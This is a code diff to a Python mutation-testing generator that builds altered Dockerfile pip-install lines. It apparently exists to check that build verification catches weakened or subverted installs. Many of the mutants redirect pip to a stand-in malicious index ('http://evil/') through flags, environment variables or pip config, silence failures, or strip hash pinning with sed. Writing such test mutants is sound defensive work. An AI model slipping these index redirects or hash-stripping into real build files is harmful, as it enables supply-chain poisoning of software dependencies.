@@ -175,30 +175,7 @@ def _pip(design: Design) -> Iterator[Mutant]:
             f"RUN {text}\n\nCOPY monitor_service/resource_monitor",
             follows=side,
         )
-    for miss, text in {
-        "ignored": f"{line} || true",
-        "ignored-by-next": f"{line}; true",
-        "ignored-by-and": f"set -e; {line} && true; true",
-        "no-longer-strict": f"set -e; set +e; {line}; true",
-        "background": f"{line} &",
-        "piped": f"{line} | cat",
-        "index": line.replace("-r ", "--index-url http://evil/ -r "),
-        "index-short": line.replace("-r ", "-ihttp://evil/ -r "),
-        "index-abbreviated": line.replace("-r ", "--index=http://evil/ -r "),
-        "extra-index": line.replace("-r ", "--extra-index-url=http://evil/ -r "),
-        "package-before": line.replace("-r ", "extra -r "),
-        "second-file": line.replace("-r ", "--requirement=other.txt -r "),
-        "exported": f"export PIP_INDEX_URL=http://evil/ && {line}",
-    }.items():
-        yield docker(f"pip.install.{miss}", text, install, line, text)
-    for keyword, setting in {"ENV": "PIP_INDEX_URL=http://evil/", "ARG": "PIP_EXTRA_INDEX_URL"}.items():
-        yield docker(
-            f"pip.install.{keyword.lower()}",
-            f"{keyword} {setting}",
-            install,
-            "COPY monitor_service/requirements",
-            f"{keyword} {setting}\nCOPY monitor_service/requirements",
-        )
+    yield from _pip_otherwise(design, line)
     yield docker(
         "pip.echoed", "pip install is printed, not run", [install, *flags, "builder.pip.cache"], line, f"echo {line}"
     )
@@ -216,6 +193,7 @@ def _pip(design: Design) -> Iterator[Mutant]:
                 f"{item.value} ",
                 text,
                 stage=BUILDER,
+                follows=[install] * (text == "--no-user "),  # which is an option of pip's, others with no- are none
             )
     mount = f"--mount=type=cache,target={design.dockerfile.pip_cache_mount}"
     for miss, text in {
@@ -225,6 +203,46 @@ def _pip(design: Design) -> Iterator[Mutant]:
         "other-user": mount.replace("/root", "/home"),
     }.items():
         yield docker(f"pip.cache.{miss}", f"pip install with {text}", "builder.pip.cache", mount, text)
+
+
+def _pip_otherwise(design: Design, line: str) -> Iterator[Mutant]:
+    install = "builder.pip.install"
+    for miss, text in {
+        "ignored": f"{line} || true",
+        "ignored-by-next": f"{line}; true",
+        "ignored-by-and": f"set -e; {line} && true; true",
+        "no-longer-strict": f"set -e; set +e; {line}; true",
+        "background": f"{line} &",
+        "piped": f"{line} | cat",
+        "index": line.replace("-r ", "--index-url http://evil/ -r "),
+        "index-short": line.replace("-r ", "-ihttp://evil/ -r "),
+        "index-abbreviated": line.replace("-r ", "--index=http://evil/ -r "),
+        "extra-index": line.replace("-r ", "--extra-index-url=http://evil/ -r "),
+        "package-before": line.replace("-r ", "extra -r "),
+        "second-file": line.replace("-r ", "--requirement=other.txt -r "),
+        "exported": f"export PIP_INDEX_URL=http://evil/ && {line}",
+        "configured": f"pip config set global.index-url http://evil/ && {line}",
+        "help": line.replace("-r ", "--help -r "),
+        "help-short": line.replace("-r ", "-h -r "),
+        "version": line.replace("-r ", "-V -r "),
+        "no-user": line.replace("--user", "--user --no-user"),
+        "elsewhere": f"cd /tmp && {line}",
+        "rewritten": f"sed -i 's/ --hash.*//' requirements.txt && {line}",
+        "appended": f"echo extra >> requirements.txt && {line}",
+    }.items():
+        yield docker(f"pip.install.{miss}", text, install, line, text)
+    cache = f"--mount=type=cache,target={design.dockerfile.pip_cache_mount}"
+    for miss, target in {"file": "/build/requirements.txt", "folder": "/build", "relative": "requirements.txt"}.items():
+        mount = f"--mount=type=bind,source=other.txt,target={target}"
+        yield docker(f"pip.install.mounted-{miss}", mount, install, cache, f"{cache} {mount}")
+    for keyword, setting in {"ENV": "PIP_INDEX_URL=http://evil/", "ARG": "PIP_EXTRA_INDEX_URL"}.items():
+        yield docker(
+            f"pip.install.{keyword.lower()}",
+            f"{keyword} {setting}",
+            install,
+            "COPY monitor_service/requirements",
+            f"{keyword} {setting}\nCOPY monitor_service/requirements",
+        )
 
 
 def _builder_verification(design: Design) -> Iterator[Mutant]:
